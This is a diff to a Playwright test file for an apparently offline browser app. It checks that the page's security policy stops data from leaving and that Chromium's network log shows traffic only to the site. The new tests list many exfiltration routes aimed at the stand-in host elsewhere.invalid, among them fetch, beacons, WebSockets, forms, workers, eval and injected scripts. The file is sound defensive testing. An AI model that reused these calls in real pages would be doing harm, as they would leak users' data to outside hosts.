@@ -1,8 +1,12 @@
 /**
  * Nothing leaves the browser: not by accident, which every test watches for, and not on purpose either.
  */
-import { test as base } from '@playwright/test';
-import { expect, test } from './page.ts';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { chromium, test as base } from '@playwright/test';
+import { FLAGS } from './playwright.config.ts';
+import { Scope, expect, test } from './page.ts';
 
 /** Where nobody listens; what counts is that nobody is asked. */
 const ELSEWHERE = 'https://elsewhere.invalid/?slice';
@@ -31,24 +35,210 @@ test('no request at all once the page is ready', async ({ scope, page }) => {
   expect(seen.filter((address) => !address.startsWith('blob:'))).toEqual([]);
 });
 
-base('the policy stops page and worker from asking elsewhere', async ({ page }) => {
+/** What a page, altered to give something away, could try. Each says what came of it. */
+const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped: RegExp }> = {
+  fetch: { run: (address) => fetch(address).then(() => 'answered', () => 'refused'), stopped: /^refused$/ },
+  'a beacon': { run: async (address) => String(navigator.sendBeacon(address, 'slice')), stopped: /./ },
+  'an XMLHttpRequest': {
+    run: (address) =>
+      new Promise((resolve) => {
+        const request = new XMLHttpRequest();
+        request.onload = () => resolve('answered');
+        request.onerror = () => resolve('refused');
+        request.open('POST', address);
+        request.send('slice');
+      }),
+    stopped: /^refused$/,
+  },
+  'a WebSocket': {
+    run: (address) =>
+      new Promise((resolve) => {
+        // Nobody answers there in any case: what counts is that the policy says so.
+        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
+        try {
+          new WebSocket(address.replace('https', 'wss')).onerror = () => setTimeout(() => resolve('asked'), 1000);
+        } catch {
+          resolve('refused');
+        }
+      }),
+    stopped: /^refused$/,
+  },
+  'an event stream': {
+    run: (address) =>
+      new Promise((resolve) => {
+        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
+        new EventSource(address).onerror = () => setTimeout(() => resolve('asked'), 1000);
+      }),
+    stopped: /^refused$/,
+  },
+  'a picture': { run: (address) => add('img', { src: address }), stopped: /^refused$/ },
+  'a script': { run: (address) => add('script', { src: address }), stopped: /^(refused|TypeError)/ },
+  'a style': { run: (address) => add('link', { rel: 'stylesheet', href: address }), stopped: /^refused$/ },
+  'a prefetch': { run: (address) => add('link', { rel: 'prefetch', href: address }), stopped: /^refused$/ },
+  'a frame': { run: (address) => add('iframe', { src: address }), stopped: /./ },
+  'a form': {
+    run: async (address) => {
+      const form = document.createElement('form');
+      form.action = address;
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+      return 'sent';
+    },
+    stopped: /./,
+  },
+  'a worker from elsewhere': {
+    run: async (address) => {
+      try {
+        new Worker(address);
+        return 'started';
+      } catch (error) {
+        return String(error);
+      }
+    },
+    stopped: /^TypeError/,
+  },
+  // Later, because what the test itself evaluates may.
+  eval: {
+    run: () => new Promise((resolve) => setTimeout(() => {
+      try {
+        resolve(String(eval('"ran"')));
+      } catch (error) {
+        resolve(String(error));
+      }
+    })),
+    stopped: /^(EvalError|TypeError)/,
+  },
+  'new Function': {
+    run: () => new Promise((resolve) => setTimeout(() => {
+      try {
+        resolve(String(new Function('return "ran"')()));
+      } catch (error) {
+        resolve(String(error));
+      }
+    })),
+    stopped: /^(EvalError|TypeError)/,
+  },
+  innerHTML: {
+    run: async (address) => {
+      document.createElement('p').innerHTML = `<img src="${address}">`;
+      return 'ran';
+    },
+    stopped: /^TypeError/,
+  },
+  'an inline script': {
+    run: async () => {
+      const script = document.createElement('script');
+      script.text = 'document.body.dataset.ran = "yes"';
+      document.body.append(script);
+      return document.body.dataset.ran ?? 'refused';
+    },
+    stopped: /^(refused|TypeError)/,
+  },
+  'an inline style': {
+    run: async () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { outline: 7px solid red }';
+      document.head.append(style);
+      return getComputedStyle(document.body).outlineWidth === '7px' ? 'ran' : 'refused';
+    },
+    stopped: /^refused$/,
+  },
+};
+
+/** Runs in the page: an element that loads something. */
+declare function add(tag: string, attributes: Record<string, string>): Promise<string>;
+
+base('a page that is altered to give something away is stopped by its policy', async ({ page }) => {
   const asked: string[] = [];
-  page.on('request', (request) => {
-    if (request.url().startsWith(ELSEWHERE)) asked.push(request.url());
+  const note = (url: string) => url.startsWith('https://elsewhere') && asked.push(url);
+  // A request that the policy stops is announced and fails before it is sent: what counts is what reaches the network.
+  await page.context().route('https://elsewhere.invalid/**', (route) => {
+    note(route.request().url());
+    return route.fulfill({ body: 'leaked', headers: { 'Access-Control-Allow-Origin': '*' } });
   });
-  await page.context().route(`${ELSEWHERE}**`, (route) => route.fulfill({ body: 'leaked', headers: { 'Access-Control-Allow-Origin': '*' } }));
   await page.goto('./?backend=cpu&workers=1');
   await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
-  const ask = (address: string) => fetch(address).then(() => 'answered', () => 'refused');
-  expect(await page.evaluate(ask, ELSEWHERE)).toBe('refused');
-  expect(page.workers()).toHaveLength(1);
-  expect(await page.workers()[0].evaluate(ask, ELSEWHERE)).toBe('refused');
-  const beacon = await page.evaluate((address) => {
-    const image = new Image();
-    return new Promise<string>((resolve) => {
-      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
-      image.src = address;
+  const address = page.url();
+  await page.evaluate(() => {
+    Object.assign(globalThis, {
+      add: (tag: string, attributes: Record<string, string>) =>
+        new Promise((resolve) => {
+          const element = document.createElement(tag);
+          element.onload = () => resolve('answered');
+          element.onerror = () => resolve('refused');
+          document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
+          Object.assign(element, attributes);
+          document.body.append(element);
+        }),
     });
-  }, ELSEWHERE);
-  expect(beacon).toBe('img-src');
+  });
+  for (const [name, { run, stopped }] of Object.entries(TRIES)) {
+    const result = await page.evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^page\.evaluate: /, ''));
+    expect(result, name).toMatch(stopped);
+  }
+  // And the worker, which sees the files.
+  expect(page.workers()).toHaveLength(1);
+  for (const name of ['fetch', 'an XMLHttpRequest', 'a WebSocket', 'eval']) {
+    const { run, stopped } = TRIES[name];
+    const result = await page.workers()[0].evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^worker\.evaluate: /, ''));
+    expect(result, `${name} in the worker`).toMatch(stopped);
+  }
+  await page.waitForTimeout(500);
+  expect(asked).toEqual([]);
+  expect(page.url(), 'nor has it been led elsewhere').toBe(address);
 });
+
+/**
+ * The browser's own record of what it did on the network, below all that a page or a test framework sees: names that were
+ * looked up, sockets that were opened, whoever asked for them.
+ */
+base('over a whole session the browser looks up no name and opens no socket but to the site', async ({ baseURL }) => {
+  const log = join(mkdtempSync(join(tmpdir(), 'glioscope-net-')), 'net.json');
+  const browser = await chromium.launch({
+    executablePath: process.env.GLIOSCOPE_CHROMIUM ?? '/usr/bin/chromium',
+    args: [...FLAGS, `--log-net-log=${log}`, '--net-log-capture-mode=Everything'],
+  });
+  const context = await browser.newContext({ baseURL, acceptDownloads: true, serviceWorkers: 'allow' });
+  const page = await context.newPage();
+  const scope = new Scope(page);
+  await scope.open('?backend=cpu');
+  await page.click('#sample');
+  await scope.is('done');
+  await scope.download();
+  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
+  await page.reload();
+  await scope.is('ready');
+  await browser.close();
+
+  const site = new URL(baseURL ?? '');
+  const { names, peers } = traffic(readFileSync(log, 'utf8'));
+  expect(peers.size, 'the record has the site itself in it').toBeGreaterThan(0);
+  // The browser looks for updates of its own, on nobody's behalf; all that it does for a site it does under its key.
+  const own = names.filter(({ name, key }) => /\.(google|googleapis|gvt1)\.com$/.test(name) && !key.includes(site.hostname));
+  const local = names.filter(({ name }) => ['localhost', '127.0.0.1', '[::1]', site.hostname].includes(name));
+  expect(names.filter((asked) => !own.includes(asked) && !local.includes(asked)), 'names looked up').toEqual([]);
+  // A test may run on a machine that reaches Google: those addresses belong to the names above.
+  const port = site.port || '80';
+  const expected = ['127.0.0.1', '[::1]'].map((address) => `${address}:${port}`);
+  const strange = [...peers].filter((peer) => !expected.includes(peer));
+  expect(strange.length, `sockets to ${strange.join(', ')}`).toBeLessThanOrEqual(own.length);
+});
+
+/** Names with the key of the site that they were looked up for, and addresses; a log that was not closed lacks its end. */
+function traffic(text: string) {
+  const log = JSON.parse(/\]\s*\}\s*$/.test(text) ? text : `${text.trim().replace(/,$/, '')}]}`);
+  const types: Record<string, number> = log.constants.logEventTypes;
+  const kinds = new Map(Object.entries(types).map(([name, type]) => [type, name]));
+  const names: { name: string; key: string }[] = [];
+  const peers = new Set<string>();
+  for (const { type, params = {} } of log.events) {
+    const kind = kinds.get(type) ?? '';
+    if (/^HOST_RESOLVER_(MANAGER_REQUEST|DNS_TASK|SYSTEM_TASK)/.test(kind) && params.host) {
+      const name = String(params.host).replace(/^[a-z]+:\/\//, '').replace(/:\d+$/, '');
+      names.push({ name, key: String(params.network_anonymization_key ?? '') });
+    }
+    if (/^(TCP_CONNECT_ATTEMPT|UDP_CONNECT|UDP_BYTES_SENT)$/.test(kind) && params.address) peers.add(String(params.address));
+  }
+  return { names, peers };
+}
